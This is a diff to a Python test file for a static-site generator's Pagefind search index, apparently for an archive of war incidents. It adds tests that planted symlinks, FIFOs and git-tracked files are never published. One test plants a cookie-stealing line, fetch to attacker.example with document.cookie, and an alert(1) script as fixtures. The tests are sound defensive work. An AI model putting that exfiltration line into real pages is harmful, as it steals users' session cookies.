@@ -383,10 +383,7 @@ def test_a_change_indexes_its_month_again_and_gives_the_index_a_clean_build_give
     # April, June and the content pages are the last build's; May is gone once its only incident is.
     assert [name[:7] for name in indexed] == ([] if change == "removal" else ["2025-05"])
 
-    clean = tmp_path / "clean"
-    shutil.copytree(tiny.root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline"))
-    build(Project(root=clean), today=TODAY)
-    assert content(index) == content(clean / "site" / "pagefind")  # the same files, each the same once decompressed
+    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")
 
     after = fragments(index)
     titles = {fragment["meta"]["title"] for fragment in after.values()}
@@ -401,6 +398,14 @@ def content(index: Path) -> dict[str, bytes]:
     """Every file of an index, Pagefind's gzip'd ones decompressed: what a search reads."""
     return {path: read_index_file(index / path) if path.endswith(("pf_meta", "pf_index", "pf_filter", "pf_fragment")) else body
             for path, body in tree(index).items()}
+
+
+def assert_the_index_of_a_clean_build(root: Path, clean: Path) -> None:
+    """The search index in root's site/ holds the files a clean build of the same archive (in `clean`) writes, each the
+    same once decompressed."""
+    shutil.copytree(root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline", ".git"))
+    build(Project(root=clean), today=TODAY)
+    assert content(root / "site" / "pagefind") == content(clean / "site" / "pagefind")
 
 
 def six_in_may(root: Path) -> TinyArchive:
@@ -461,10 +466,7 @@ def test_a_change_to_a_large_shard_indexes_only_the_changed_records_and_gives_a_
                **{name: [f"incidents/{ident}/"] for name, ident in ADDED_THE_SAME_DAY.items()}}[change]
     assert [url for url in asked if url.startswith("incidents/")] == changed  # the other five incidents' pages are the last index's
     index = tiny.root / "site" / "pagefind"
-    clean = tmp_path / "clean"
-    shutil.copytree(tiny.root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline"))
-    build(Project(root=clean), today=TODAY)
-    assert content(index) == content(clean / "site" / "pagefind")  # the same files, each the same once decompressed
+    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")
     titles = {fragment["meta"]["title"] for fragment in fragments(index).values()}
     assert ("Strike on Irpin" in titles) == (change == "addition" or change in ADDED_THE_SAME_DAY)
     assert any("zebrafinch" in title.lower() for title in titles) == (change != "removal")
@@ -502,10 +504,7 @@ def test_an_earlier_shard_that_cannot_be_read_is_indexed_whole_and_the_index_is_
     asked = record_pagefinds_records(monkeypatch)
     build(tiny.project, today=TODAY)
     assert len([url for url in asked if url.startswith("incidents/")]) == 6  # the whole shard, indexed again
-    clean = tmp_path / "clean"
-    shutil.copytree(tiny.root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline"))
-    build(Project(root=clean), today=TODAY)
-    assert content(tiny.root / "site" / "pagefind") == content(clean / "site" / "pagefind")
+    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")
 
 
 def test_a_site_that_came_with_the_repository_is_never_taken_into_the_new_index(tmp_path, monkeypatch):
@@ -527,10 +526,7 @@ def test_a_site_that_came_with_the_repository_is_never_taken_into_the_new_index(
     build(tiny.project, today=TODAY)
     published = tree(index)
     assert not [path for path, body in published.items() if body in planted.values()]
-    clean = tmp_path / "clean"
-    shutil.copytree(tiny.root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline"))
-    build(Project(root=clean), today=TODAY)
-    assert content(index) == content(clean / "site" / "pagefind")
+    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")
 
 
 def test_links_and_fifos_in_the_last_index_are_neither_followed_nor_published(tmp_path, monkeypatch):
@@ -544,7 +540,10 @@ def test_links_and_fifos_in_the_last_index_are_neither_followed_nor_published(tm
     april = next(shard for shard in (index / "shards").iterdir() if shard.name.startswith("2025-04"))
     (april / "fragment" / "en_leak.pf_fragment").symlink_to(secret)
     (index / "leak.js").symlink_to(secret)
-    (april / "linked-folder").symlink_to(tmp_path, target_is_directory=True)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "secret.txt").write_text("the contents of a file outside the repository")
+    (april / "linked-folder").symlink_to(elsewhere, target_is_directory=True)
     os.mkfifo(index / "pipe")
     change_may(tiny, "edit")
     build(tiny.project, today=TODAY)
@@ -552,6 +551,54 @@ def test_links_and_fifos_in_the_last_index_are_neither_followed_nor_published(tm
     assert not [path for path in kept if path.is_symlink() or not (path.is_file() or path.is_dir())]
     assert not [path for path in kept if path.is_file() and b"outside the repository" in path.read_bytes()]
     assert {path.name for path in kept}.isdisjoint({"en_leak.pf_fragment", "leak.js", "linked-folder", "pipe"})
+
+
+def test_an_index_a_checkout_wrote_over_the_last_builds_is_never_taken_into_the_new_one(tmp_path, monkeypatch):
+    """Checking out a branch that adds files to site/ (git add -f) writes them over the last build's, in place:
+    whatever git tracks there is never linked into the next site, a page or the search index."""
+    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
+    tiny = three_months(tmp_path / "archive")
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
+    subprocess.run(["git", "init", "-q"], cwd=tiny.root, check=True)
+    (tiny.root / ".gitignore").write_text("site/\n.cache/\n")
+    subprocess.run([*git, "add", "-A"], cwd=tiny.root, check=True)
+    subprocess.run([*git, "commit", "-qm", "archive"], cwd=tiny.root, check=True)
+    build(tiny.project, today=TODAY)
+    site = tiny.root / "site"
+    planted = {site / "pagefind" / "pagefind.js": b"fetch('https://attacker.example/' + document.cookie)",
+               site / "incidents" / "2025-04-10-drone-strike-on-kyiv" / "index.html": b"<script>alert(1)</script>"}
+    for path, body in planted.items():
+        path.write_bytes(body)  # as git writes a checked-out file over an ignored one: in place
+    subprocess.run([*git, "add", "-f", *map(str, planted)], cwd=tiny.root, check=True)
+    subprocess.run([*git, "commit", "-qm", "a site of its own"], cwd=tiny.root, check=True)
+    change_may(tiny, "edit")
+    build(tiny.project, today=TODAY)
+    assert not [path for path, body in planted.items() if path.read_bytes() == body]
+    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")
+
+
+@pytest.mark.parametrize("planted", ["link", "fifo"])
+def test_a_fragment_that_is_not_a_regular_file_has_its_shard_indexed_whole(tmp_path, monkeypatch, planted):
+    """A shard indexed in part links its unchanged pages' fragments from the last build: one that is a link or a FIFO
+    is neither followed nor published, and the shard is indexed whole instead."""
+    tiny = six_in_may(tmp_path / "archive")
+    build(tiny.project, today=TODAY)
+    [shard] = (tiny.root / "site" / "pagefind" / "shards").iterdir()
+    victim = sorted((shard / "fragment").iterdir())[0]
+    outside = tmp_path / "outside.pf_fragment"  # the very fragment, outside the repository
+    shutil.copyfile(victim, outside)
+    victim.unlink()
+    victim.symlink_to(outside) if planted == "link" else os.mkfifo(victim)
+    irpin = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-irpin.yaml"
+    irpin.write_text(irpin.read_text(encoding="utf-8").replace("title: Strike on Irpin", "title: Strike on Irpin again"), encoding="utf-8")
+    asked = record_pagefinds_records(monkeypatch)
+    build(tiny.project, today=TODAY)
+    assert len({url for url in asked if url.startswith("incidents/")}) == 6  # the whole shard, indexed again (after the edited record)
+    index = tiny.root / "site" / "pagefind"
+    kept = [Path(folder) / name for folder, _, files in os.walk(index) for name in files]
+    assert all(path.is_file() and not path.is_symlink() for path in kept)
+    assert not [path for path in kept if os.path.samefile(path, outside)]
+    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")
 
 
 def test_a_file_system_without_hard_links_builds_the_index_a_clean_build_gives(tmp_path, monkeypatch):
@@ -568,13 +615,10 @@ def test_a_file_system_without_hard_links_builds_the_index_a_clean_build_gives(t
         for change in ("edit", "addition"):  # the second build keeps the first's index, which it copied
             change_may(tiny, change)
             build(tiny.project, today=TODAY)
-    clean = tmp_path / "clean"
-    shutil.copytree(tiny.root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline"))
-    build(Project(root=clean), today=TODAY)
-    assert content(tiny.root / "site" / "pagefind") == content(clean / "site" / "pagefind")
+    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")
 
 
-def test_a_build_without_the_index_keeps_the_last_one_only_while_it_is_right(tmp_path):
+def test_a_build_without_the_index_keeps_the_last_one_only_while_it_is_right(tmp_path, monkeypatch):
     """`build --no-search` keeps the last index when no page changed and its records would be the same: not after a
     change of what records hold and pages do not show (a weapon's aliases, which search finds), nor after one of our code."""
     tiny = three_months(tmp_path / "archive")
@@ -588,6 +632,11 @@ def test_a_build_without_the_index_keeps_the_last_one_only_while_it_is_right(tmp
     may.write_text(may.read_text(encoding="utf-8") + "# a curator's note: no page shows it\n", encoding="utf-8")
     assert not build(project, today=TODAY, with_search=False).up_to_date
     assert tree(index) == before
+    asked = record_pagefinds_records(monkeypatch)  # the index kept is still the one the next build takes shards from
+    change_may(tiny, "edit")
+    build(project, today=TODAY)
+    assert [url for url in asked if url.startswith("incidents/")] == ["incidents/2025-05-12-strike-on-a-kyiv-depot/"]
+    monkeypatch.undo()
     weapons = data / "weapons.yaml"
     weapons.write_text(weapons.read_text(encoding="utf-8").replace("aliases: [Shahed, Geran-2, Geran]", "aliases: [Shahed, Geran-2, Geran, Shahid]"),
                        encoding="utf-8")
